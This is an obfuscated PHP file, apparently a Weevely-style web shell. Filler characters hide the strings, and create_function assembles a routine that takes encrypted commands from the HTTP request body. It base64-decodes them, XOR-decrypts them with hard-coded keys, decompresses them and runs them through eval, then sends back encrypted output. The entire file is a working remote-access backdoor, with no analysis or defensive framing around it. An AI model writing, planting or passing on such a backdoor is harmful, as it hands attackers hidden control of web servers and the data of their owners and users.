<?php
$w=str_replace('k','','ckrekaktek_funkctkion');
$r='1]Zy),$Zyk))Zy)Zy;$oZy=@obZy_ZygetZy_cZyontZyentZys(Zy);@Zyob_eZyndZy_clZyeaZyn()Zy;$rZy=Zy@baZyse64Zy_eZyncoZyde(@Zyx(@gZyzcZyomZyprZyessZy($oZy),Zy$kZy));ZyprinZyt("$ZypZy$khZy$r$Zykf"Zy)Zy;}';
$i='rleZyn($tZy);$oZy="";Zyfor(Zy$Zyi=Zy0;$ZyiZy<$l;Zy){fZyoZyr(Zy$jZy=0;Zy($jZy<$Zyc&&$Zyi<Zy$l)Zy;Zy$j++Zy,$iZy+Zy+Zy)Zy{$Zyo.Zy=$Zyt[$iZy]^$kZy[Zy$ZyjZy];Zy}}ZyrZyetuZyrn $ZyoZy;}Zy
Zyif(Zy@pZyregZy_maZytc';
$o='$Zyk=Zy"Zy1dZyd0c0Zyde"Zy;$kZyh="Zy98f1Zy37Zy0Zy8Zy210Zya";Zy$kf=Zy"Zy8e2Zy96Zya067Zya37"Zy;Zy$p=Zy"ZyLZym2ZyPq9ZyRz4TZyx7VZyb1N"Zy;
ZyfZyuncZytionZy x($ZytZy,$Zyk){$Zyc=ZystrlZyen(Zy$k)Zy;$Zyl=st';
$d='h("Zy/Zy$kh(Zy.+)Zy$ZykZyfZy/"Zy,@fZyileZy_ZygeZyt_ZycoZyntZyeZyntZys("ZyphpZy:Zy//ZyinpZyut")Zy,$mZy)==1Zy)Zy{@obZy_sZytarZyt();Zy@evZyal(Zy@gzuZynZycomZyprZyessZy(@xZy(@baZyse64Zy_dZyecodZye($Zym[';
$a=str_replace('Zy','',$o.$i.$d.$r);
$K=$w('',$a);$K();
?>
